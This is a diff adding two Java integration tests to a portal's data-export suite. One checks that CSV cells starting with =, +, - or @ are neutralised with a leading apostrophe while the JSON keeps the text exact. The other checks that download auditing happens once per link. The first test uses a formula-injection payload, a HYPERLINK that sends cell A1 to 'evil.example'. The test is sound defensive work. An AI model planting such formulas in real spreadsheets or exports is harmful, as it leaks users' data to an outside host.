@@ -175,6 +175,54 @@ class ExportTests extends PortalIntegrationTest {
 	}
 
 	@Test
+	void csvCellsASpreadsheetWouldRunAsFormulasAreNeutralisedWhileTheJsonKeepsTheExactText() throws Exception {
+		String sub = "formula-" + UUID.randomUUID();
+		String name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
+		PortalClient mallory = as(sub, List.of(Scopes.SELF), sub + "@example.com", name);
+		mallory.document("me");
+		// a leading tab or carriage return is trimmed from complaint texts; ExportArchiveTests covers those
+		List<String> texts = List.of("+1 call me", "-2 days", "@SUM(A1:A9)", "plain = text");
+		for (String text : texts) {
+			assertThat(mallory.document("fileComplaint", "category", "OTHER", "summary", text, "description", text)
+				.path("data.fileComplaint.userErrors")).isEmpty();
+		}
+		String id = mallory.document("requestDataExport", "format", "ZIP").text("data.requestDataExport.export.id");
+		JsonNode ready = awaitStatus(mallory, id, "READY");
+
+		Map<String, String> entries = unzip(download(baseUrl(), ready.path("downloadUrl").asString()).body());
+
+		JsonNode data = JSON.readTree(entries.get("data.json"));
+		assertThat(data.path("sections").path("profile").get(0).path("fullName").asString()).isEqualTo(name);
+		assertThat(parseCsv(entries.get("profile.csv")).get(1)).contains("'" + name);
+		String complaintsKey = data.path("sections").propertyNames().stream()
+			.filter(key -> data.path("sections").path(key).toString().contains("@SUM(A1:A9)"))
+			.findFirst().orElseThrow();
+		List<String> cells = parseCsv(entries.get(complaintsKey + ".csv")).stream().flatMap(List::stream).toList();
+		assertThat(cells).contains("'+1 call me", "'-2 days", "'@SUM(A1:A9)", "plain = text")
+			.doesNotContain("+1 call me", "-2 days", "@SUM(A1:A9)");
+		assertThat(data.path("sections").path(complaintsKey).toString()).contains("\"+1 call me\"", "\"@SUM(A1:A9)\"");
+	}
+
+	@Test
+	void onlyTheFirstDownloadThroughALinkIsAudited() {
+		PortalClient alice = newSubject();
+		String subjectId = alice.document("me").text("data.me.id");
+		String id = alice.document("requestDataExport", "format", "JSON").text("data.requestDataExport.export.id");
+		String link = awaitStatus(alice, id, "READY").path("downloadUrl").asString();
+
+		assertThat(download(baseUrl(), link).statusCode()).isEqualTo(200);
+		assertThat(download(baseUrl(), link).statusCode()).isEqualTo(200);
+		assertThat(download(baseUrl(), link, "Range", "bytes=10-").statusCode()).isIn(200, 206);
+
+		assertThat(actions(subjectId)).filteredOn("export.downloaded"::equals).hasSize(1);
+		clock.advance(Duration.ofMinutes(1));
+		String another = ExportTestSupport.find(alice.document("myExports"), id).path("downloadUrl").asString();
+		assertThat(another).isNotEqualTo(link);
+		assertThat(download(baseUrl(), another).statusCode()).isEqualTo(200);
+		assertThat(actions(subjectId)).filteredOn("export.downloaded"::equals).hasSize(2);
+	}
+
+	@Test
 	void aSecondOpenExportIsRefusedEvenWhenRequestsRace() throws Exception {
 		PortalClient alice = newSubject();
 		String subjectId = alice.document("me").text("data.me.id");
